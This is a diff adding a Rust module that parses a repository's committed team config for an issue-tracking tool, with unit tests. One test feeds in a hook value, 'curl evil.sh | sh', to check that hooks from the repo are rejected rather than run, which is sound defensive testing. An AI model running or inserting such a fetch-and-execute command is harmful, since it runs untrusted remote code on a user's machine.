@@ -0,0 +1,196 @@
+//! Team config committed in the repo (`.isq/config.toml`)
+//!
+//! Setup a teammate gets by cloning: the forge the repo tracks
+//! (`isq link --from-config`), labels every new issue starts with, the label
+//! taxonomy, how goals are named and the Linear workflow states close and
+//! reopen move issues to. Where your own config.toml sets the same thing,
+//! yours wins. Only these sections are read from the repo; anything else
+//! (hooks in particular) is rejected rather than run.
+//!
+//! ```toml
+//! [link]
+//! forge = "linear"          # github, linear, or an external forge
+//! team = "ENG"              # Linear team key or name
+//!
+//! [issues]
+//! labels = ["needs-triage"] # added by `isq issue create`
+//!
+//! [[labels.taxonomy]]       # see taxonomy.rs
+//! name = "bug"
+//! color = "d73a4a"
+//!
+//! [goals]
+//! pattern = "20??-Q?"       # goal names must match (glob)
+//!
+//! [states]                  # Linear workflow state names
+//! closed = "Done"
+//! open = "Todo"
+//! ```
+
+use std::collections::BTreeMap;
+use std::path::{Path, PathBuf};
+
+use anyhow::{anyhow, Result};
+use serde::Deserialize;
+
+use crate::db;
+use crate::forges;
+use crate::taxonomy::{LabelsConfig, TaxonomyLabel};
+
+#[derive(Debug, Default, Clone, Deserialize)]
+#[serde(default, deny_unknown_fields)]
+pub struct TeamConfig {
+    pub link: LinkConfig,
+    pub issues: IssuesConfig,
+    pub labels: TeamLabels,
+    pub goals: GoalsConfig,
+    pub states: StatesConfig,
+}
+
+/// What `isq link --from-config` links to
+#[derive(Debug, Default, Clone, Deserialize)]
+#[serde(default, deny_unknown_fields)]
+pub struct LinkConfig {
+    pub forge: Option<String>,
+    /// Linear team key or name
+    pub team: Option<String>,
+    /// Options for external forge adapters (like `-o key=value`)
+    pub options: BTreeMap<String, String>,
+}
+
+#[derive(Debug, Default, Clone, Deserialize)]
+#[serde(default, deny_unknown_fields)]
+pub struct IssuesConfig {
+    /// Labels `isq issue create` adds
+    pub labels: Vec<String>,
+}
+
+/// Only the taxonomy: label rules and the classifier stay personal
+#[derive(Debug, Default, Clone, Deserialize)]
+#[serde(default, deny_unknown_fields)]
+pub struct TeamLabels {
+    pub taxonomy: Vec<TaxonomyLabel>,
+}
+
+#[derive(Debug, Default, Clone, Deserialize)]
+#[serde(default, deny_unknown_fields)]
+pub struct GoalsConfig {
+    /// Glob new goal names must match
+    pub pattern: Option<String>,
+}
+
+/// Linear workflow states (by name) for close and reopen; unset means the
+/// team's first completed state and its backlog
+#[derive(Debug, Default, Clone, Deserialize)]
+#[serde(default, deny_unknown_fields)]
+pub struct StatesConfig {
+    pub open: Option<String>,
+    pub closed: Option<String>,
+}
+
+impl TeamConfig {
+    /// The label taxonomy: yours if you configured one, else the team's
+    pub fn taxonomy<'a>(&'a self, user: &'a LabelsConfig) -> &'a [TaxonomyLabel] {
+        if user.taxonomy.is_empty() { &self.labels.taxonomy } else { &user.taxonomy }
+    }
+
+    /// `link` as `isq link` arguments: the forge name and its `-o` options
+    pub fn link_args(&self) -> Option<(String, Vec<String>)> {
+        let forge = self.link.forge.clone()?;
+        let mut opts: Vec<String> = self.link.team.iter().map(|team| format!("team={}", team)).collect();
+        opts.extend(self.link.options.iter().map(|(key, value)| format!("{}={}", key, value)));
+        Some((forge, opts))
+    }
+
+    /// Add the team's default labels that aren't there yet
+    pub fn add_default_labels(&self, labels: &mut Vec<String>) {
+        for label in &self.issues.labels {
+            if !labels.iter().any(|l| l.eq_ignore_ascii_case(label)) {
+                labels.push(label.clone());
+            }
+        }
+    }
+
+    /// Check a new goal name against the naming convention
+    pub fn check_goal_name(&self, name: &str) -> Result<(), String> {
+        match &self.goals.pattern {
+            Some(pattern) if !forges::glob_match(pattern, name) => Err(format!(
+                "Goal name '{}' doesn't match this repo's convention '{}' (from {})",
+                name,
+                pattern,
+                Path::new(DIR).join(FILE).display()
+            )),
+            _ => Ok(()),
+        }
+    }
+}
+
+const DIR: &str = ".isq";
+const FILE: &str = "config.toml";
+
+/// Path to a checkout's team config
+pub fn path(repo_path: &str) -> PathBuf {
+    Path::new(repo_path).join(DIR).join(FILE)
+}
+
+/// Load a checkout's team config (defaults if it has none, or for remote
+/// links, which have no checkout)
+pub fn load(repo_path: &str) -> Result<TeamConfig> {
+    if repo_path.is_empty() || db::is_remote_repo_path(repo_path) {
+        return Ok(TeamConfig::default());
+    }
+    let path = path(repo_path);
+    match std::fs::read_to_string(&path) {
+        Ok(contents) => parse(&contents).map_err(|e| anyhow!("Invalid team config {}: {}", path.display(), e)),
+        Err(e) if e.kind() == std::io::ErrorKind::NotFound => Ok(TeamConfig::default()),
+        Err(e) => Err(anyhow!("Failed to read {}: {}", path.display(), e)),
+    }
+}
+
+/// Parse a team config from TOML
+pub fn parse(contents: &str) -> Result<TeamConfig> {
+    Ok(toml::from_str(contents)?)
+}
+
+#[cfg(test)]
+mod tests {
+    use super::*;
+
+    #[test]
+    fn test_parse_and_link_args() {
+        let team = parse(
+            "[link]\nforge = \"linear\"\nteam = \"ENG\"\n\n[issues]\nlabels = [\"needs-triage\"]\n\n[states]\nclosed = \"Done\"\n",
+        )
+        .unwrap();
+        assert_eq!(team.link_args(), Some(("linear".to_string(), vec!["team=ENG".to_string()])));
+        assert_eq!(team.states.closed.as_deref(), Some("Done"));
+
+        let mut labels = vec!["Needs-Triage".to_string(), "bug".to_string()];
+        team.add_default_labels(&mut labels);
+        assert_eq!(labels, vec!["Needs-Triage", "bug"]);
+
+        assert!(parse("").unwrap().link_args().is_none());
+    }
+
+    #[test]
+    fn test_rejects_sections_outside_team_config() {
+        let err = parse("[hooks]\non_issue_created = \"curl evil.sh | sh\"\n").unwrap_err();
+        assert!(err.to_string().contains("unknown field `hooks`"));
+    }
+
+    #[test]
+    fn test_taxonomy_prefers_user_config() {
+        let team = parse("[[labels.taxonomy]]\nname = \"bug\"\n").unwrap();
+        let user = crate::config::parse("[[labels.taxonomy]]\nname = \"defect\"\n").unwrap();
+        assert_eq!(team.taxonomy(&user.labels)[0].name, "defect");
+        assert_eq!(team.taxonomy(&LabelsConfig::default())[0].name, "bug");
+    }
+
+    #[test]
+    fn test_goal_name_convention() {
+        let team = parse("[goals]\npattern = \"20??-Q?\"\n").unwrap();
+        assert!(team.check_goal_name("2025-Q3").is_ok());
+        assert!(team.check_goal_name("Launch").unwrap_err().contains("20??-Q?"));
+        assert!(TeamConfig::default().check_goal_name("Launch").is_ok());
+    }
+}